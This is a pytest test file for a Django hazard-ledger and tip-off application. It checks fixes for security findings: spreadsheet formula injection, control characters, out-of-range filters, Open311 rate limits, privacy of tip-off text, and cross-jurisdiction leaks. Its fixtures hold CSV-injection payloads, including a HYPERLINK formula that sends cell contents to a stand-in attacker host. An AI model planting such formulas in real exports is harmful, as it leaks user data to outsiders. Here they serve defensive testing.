"""The second attack's findings (issue #20), one test each: formula injection in the exports,
NUL and other control characters, out-of-range numbers and dates, the Open311 look-up limits
and the tip-off text it serves, the Chinese error pages, and existence leaks in imports."""
from __future__ import annotations

import csv
import io
import uuid

import pytest
from django.test import RequestFactory
from django.views.defaults import server_error
from openpyxl import load_workbook

from hazards import services

from tests import factories
from tipoffs.choices import Channel

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/x?"&A1,"点击查看")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP CSV injection
HOSTILE = [FORMULA, "@SUM(1+1)", "+1+1", "-1+1", "\tTAB=1", "\rCR=1"]


@pytest.fixture(autouse=True)
def _fast(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    settings.CACHES = {**settings.CACHES, "tipoffs": {
        "BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": f"t-{uuid.uuid4()}"}}


@pytest.fixture
def county(db):
    factories.region("430522", "新邵县")
    enterprise = factories.EnterpriseFactory(region=factories.region("430522100"), name=FORMULA)
    inspector = factories.inspector("430522", username="f_inspector")
    hazards = [services.hazard_create(actor=inspector, data={"title": title, "enterprise": enterprise,
                                                             "description": title},
                                      before_photos=[factories.photo()]) for title in HOSTILE]
    return factories.supervisor("430522", username="f_supervisor"), hazards


def _xlsx_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _streamed(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- 1. formula injection ----------------------------------------------------------------------

def test_no_export_writes_a_formula_and_every_cell_shows_what_was_typed(client, county):
    supervisor, hazards = county
    client.force_login(supervisor)
    urls = ["/spreadsheets/export/ledger.xlsx", f"/spreadsheets/export/hazards/{hazards[0].pk}.xlsx",
            "/spreadsheets/export/enterprises.xlsx"]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _xlsx_cells(_streamed(response))
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        values = {c.value for c in cells}
        assert FORMULA in values, url  # the text as typed, not a formula and not altered
    for url in ("/spreadsheets/export/ledger.csv", "/spreadsheets/export/enterprises.csv"):
        text = _streamed(client.get(url)).decode("utf-8-sig")
        fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
        assert not [f for f in fields if f.startswith(FORMULA_STARTS)], url
        assert "'" + FORMULA in fields, url
    ledger = _streamed(client.get("/spreadsheets/export/ledger.csv")).decode("utf-8-sig")
    for title in HOSTILE:
        assert "'" + title in [f for row in csv.reader(io.StringIO(ledger)) for f in row]


# --- 2. NUL and control characters -------------------------------------------------------------

@pytest.mark.parametrize("query", ["jurisdiction_id=%00", "service_code=%00", "status=open%01"])
def test_open311_reads_with_a_nul_are_a_standard_400(client, db, query):
    response = client.get(f"/open311/v2/requests.json?{query}")
    assert response.status_code == 400
    assert response.json()[0]["code"] == 400 and "控制字符" in response.json()[0]["description"]


def test_open311_posts_with_a_nul_are_a_400_and_save_nothing(client, db):
    from tipoffs.models import TipOff

    factories.region("430522", "新邵县")
    key = factories.open311_client("430522")[1]
    response = client.post("/open311/v2/requests.json", {"api_key": key, "service_code": "fire",
                                                         "address_string": "新邵县\x00", "description": "堵塞"})
    assert response.status_code == 400 and "address_string" in response.json()[0]["description"]
    assert TipOff.objects.count() == 0


def test_pages_and_the_api_refuse_control_characters_in_chinese(client, county):
    supervisor, hazards = county
    client.force_login(supervisor)
    page = client.get("/hazards/?q=%00")
    assert page.status_code == 400 and "控制字符" in page.content.decode()
    api = client.get("/api/hazards/?q=a%00b")
    assert api.status_code == 400 and api.json()["code"] == "control_character"
    body = client.post("/hazards/new/", {"title": "标题\x07"})
    assert body.status_code == 400 and "title" in body.content.decode()


# --- 3. numbers and dates out of range ---------------------------------------------------------

@pytest.mark.parametrize("query", ["due_within=3000000", "due_within=" + "9" * 40, "enterprise=" + "9" * 40,
                                   "deadline_after=9999-12-31", "found_before=0001-01-01"])
def test_out_of_range_filters_are_a_400_not_a_500(client, county, query):
    supervisor, _hazards = county
    client.force_login(supervisor)
    api = client.get(f"/api/hazards/?{query}")
    assert api.status_code == 400, api.content[:300]
    page = client.get(f"/hazards/?{query}")
    # The page is a 400 that still shows the ledger form with the message beside the field.
    assert page.status_code == 400
    field = query.split("=")[0]
    assert page.context["filter"].form.errors[field]
    assert str(page.context["filter"].form.errors[field][0]) in page.content.decode()
    # A download refuses instead of sending an empty file that reads as "nothing found".
    for url in ("/spreadsheets/export/ledger.csv", "/spreadsheets/export/ledger.xlsx"):
        export = client.get(f"{url}?{query}")
        assert export.status_code == 400
        assert "筛选条件有误，未导出" in export.content.decode()


def test_an_enterprise_export_with_a_bad_filter_is_a_400_naming_the_field(client, county):
    supervisor, _hazards = county
    client.force_login(supervisor)
    export = client.get("/spreadsheets/export/enterprises.csv?risk_colour=purple")
    assert export.status_code == 400, export.content[:300]
    assert "筛选条件有误，未导出" in export.content.decode()


def test_the_schema_states_the_bounds(client, county):
    from drf_spectacular.generators import SchemaGenerator

    schema = SchemaGenerator().get_schema(request=None, public=True)
    params = {p["name"]: p["schema"] for p in schema["paths"]["/api/hazards/"]["get"]["parameters"]}
    assert params["due_within"]["maximum"] == 3650 and params["due_within"]["minimum"] == 0
    assert params["enterprise"]["maximum"] == 2**63 - 1


# --- 4. Open311 look-ups share the tracking limit; unpublished text stays private --------------

def test_open311_lookups_by_id_are_limited_like_the_tracking_page(client, db, settings):
    settings.TIPOFFS_RATE_LIMITS = {"track": "30/600"}
    tipoff = factories.TipOffFactory(channel=Channel.OPEN311)
    answers = [client.get(f"/open311/v2/requests/{tipoff.tracking_code}.json").status_code for _ in range(31)]
    assert answers[:30] == [200] * 30 and answers[30] == 429


def test_a_list_of_ids_counts_each_id_and_is_capped(client, db, settings):
    settings.TIPOFFS_RATE_LIMITS = {"track": "30/600"}
    codes = [factories.TipOffFactory(channel=Channel.OPEN311).tracking_code for _ in range(3)]
    huge = ",".join(codes * 334)
    assert client.get("/open311/v2/requests.json", {"service_request_id": huge}).status_code == 400
    ten = ",".join((codes * 4)[:10])
    assert [client.get("/open311/v2/requests.json", {"service_request_id": ten}).status_code
            for _ in range(4)] == [200, 200, 200, 429]


def test_web_and_hotline_tipoffs_are_read_by_id_without_their_text_or_place(client, db):
    web = factories.TipOffFactory(channel=Channel.WEB, description="我是车间的张三，出口被堵", address="张三家楼下")
    published = factories.TipOffFactory(channel=Channel.OPEN311, description="出口被堵", address="东门")
    hidden = client.get(f"/open311/v2/requests/{web.tracking_code}.json").json()[0]
    assert hidden["description"] is None and hidden["address"] is None and hidden["lat"] is None
    assert "张三" not in client.get(f"/open311/v2/requests/{web.tracking_code}.xml").content.decode()
    shown = client.get(f"/open311/v2/requests/{published.tracking_code}.json").json()[0]
    assert (shown["description"], shown["address"]) == ("出口被堵", "东门")


# --- 5. Chinese error pages --------------------------------------------------------------------

def test_404_and_403_pages_are_chinese_in_the_site_layout(client, settings, county):
    settings.DEBUG = False
    response = client.get("/no-such-page/")
    assert response.status_code == 404
    body = response.content.decode()
    assert "页面不存在" in body and 'class="topbar"' in body and "Not Found" not in body
    supervisor, _hazards = county
    client.force_login(supervisor)
    assert "页面不存在" in client.get("/hazards/999999999/").content.decode()


def test_the_500_page_is_chinese_and_needs_no_database(django_db_blocker):
    request = RequestFactory().get("/")
    with django_db_blocker.block():
        response = server_error(request)
    body = response.content.decode()
    assert response.status_code == 500 and "系统出错" in body and 'class="topbar"' in body


# --- 6. imports do not reveal another jurisdiction's objects -----------------------------------

def test_imports_do_not_reveal_another_jurisdictions_hazards_or_units(db):
    from spreadsheets.validation import EnterpriseChecker, HazardChecker

    factories.region("430522", "新邵县")
    factories.region("430523", "邵阳县")
    elsewhere = factories.HazardFactory(enterprise=factories.EnterpriseFactory(region=factories.region("430523100")))
    user = factories.supervisor("430522", username="leak_supervisor")
    assert HazardChecker(user=user)._existing_codes([{"original_code": elsewhere.code}]) == {}
    row = {"row": 2, "region": "430522", "credit_code": elsewhere.enterprise.credit_code}
    factories.region("430522")
    _valid, issues = EnterpriseChecker(user=user).check_against_database([row], first_pass=True)
    assert issues and all("其他辖区" not in i.message for i in issues)
